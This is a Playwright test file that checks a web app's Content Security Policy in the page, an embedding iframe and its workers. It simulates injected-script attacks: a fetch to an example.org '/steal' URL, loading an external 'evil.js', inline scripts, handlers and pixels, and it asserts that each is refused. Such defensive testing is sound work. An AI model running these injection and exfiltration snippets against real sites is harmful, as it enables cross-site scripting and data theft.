/**
 * The Content Security Policy of the built page: in the page, in an embed and in the workers, only the site's own files
 * can be loaded, and everything on the site still works (every other browser test also fails on a violation, since it
 * is an error in the console).
 */
import { createServer } from 'node:http';
import type { Worker } from '@playwright/test';
import { placeInBrowser } from '../scripts/tier';
import { expect, TINY, test } from './playground';

const FORBIDDEN =
  /Content Security Policy|violates|Refused to|Failed to load resource|ERR_BLOCKED_BY_CSP|Fetch API cannot load/;

/** What an injected script would try; returns whether each attempt succeeded. Runs in the page or in a worker. */
const attempts = async () => {
  const tried = async (what: () => Promise<unknown>) => {
    try {
      await what();
      return 'allowed';
    } catch {
      return 'refused';
    }
  };
  return {
    fetch: await tried(() => fetch('https://example.org/steal?what=everything', { mode: 'no-cors' })),
    dataFetch: await tried(() => fetch('data:text/plain,hello')),
    dataScript: await tried(() => import(/* @vite-ignore */ `data:text/javascript,export default ${Math.random()}`)),
    wasm: await tried(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
  };
};
const REFUSED = { fetch: 'refused', dataFetch: 'refused', dataScript: 'refused', wasm: 'allowed' };

test('the page loads only the site’s own files', async ({ playground }) => {
  const { page } = playground;
  playground.provokes(FORBIDDEN);
  await playground.open(`${TINY}&data=xor&mode=single&device=cpu`);
  expect(await page.evaluate(attempts)).toEqual(REFUSED);
  const violated = await page.evaluate(async () => {
    const seen = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.add(effectiveDirective));
    const add = (name: string, fields: Readonly<Record<string, string>>) =>
      document.body.append(Object.assign(document.createElement(name), fields));
    add('script', { textContent: 'globalThis.injected = true' });
    add('script', { src: 'https://example.org/evil.js' });
    add('style', { textContent: 'body { display: none }' });
    add('img', { src: 'https://example.org/pixel.png' });
    add('iframe', { src: 'https://example.org/' });
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.injected = true');
    document.body.append(button);
    button.click();
    while (seen.size < 5) await new Promise((resolve) => setTimeout(resolve, 10));
    return { seen: [...seen].sort(), injected: 'injected' in globalThis };
  });
  expect(violated).toEqual({
    seen: ['frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem'].sort(),
    injected: false,
  });
});

for (const device of ['cpu', 'webgpu']) {
  test(
    `the policy also applies to the session's worker and the ranks' workers, which train on ${device}`,
    placeInBrowser({ rest: 'the page itself is under the same policy, and starts the workers' }),
    async ({ playground }) => {
      const { page } = playground;
      playground.provokes(FORBIDDEN);
      await playground.open(`${TINY}&data=xor&mode=ddp&world=2&device=${device}&placement=workers`);
      const nested = (worker: Worker) => worker.evaluate(attempts);
      await expect.poll(() => page.workers().length).toBe(3);
      for (const worker of page.workers()) expect(await nested(worker)).toEqual(REFUSED);
      await playground.iterate(1);
      await playground.playUntilStep(4);
    },
  );
}

test(
  'another site may embed the page, and the same policy applies there',
  placeInBrowser({ rest: 'the page itself is under the same policy' }),
  async ({ playground, baseURL }) => {
    const { page } = playground;
    playground.provokes(FORBIDDEN);
    const src = new URL(`./#${TINY}&data=xor&mode=ddp&world=2&device=cpu&embed=1`, baseURL).href;
    // A real server: if the test itself answers the request, Chromium takes the page for one from the internet, which
    // may not open a local page.
    const html = `<!doctype html><title>blog</title><iframe src="${src}" width="1100" height="900"></iframe>`;
    const blog = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(html));
    await new Promise<void>((listening) => blog.listen(0, '127.0.0.1', listening));
    const address = blog.address();
    await page.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`);
    const figure = page.frameLocator('iframe');
    await figure.getByRole('button', { name: 'Step iteration' }).click();
    await expect(figure.getByRole('status', { name: 'Step', exact: true })).toHaveText('1');
    const frame = page.frames().find((each) => each.url().startsWith(String(baseURL)));
    expect(await frame?.evaluate(attempts)).toEqual(REFUSED);
    for (const worker of page.workers()) expect(await worker.evaluate(attempts)).toEqual(REFUSED);
    blog.closeAllConnections();
    blog.close();
  },
);
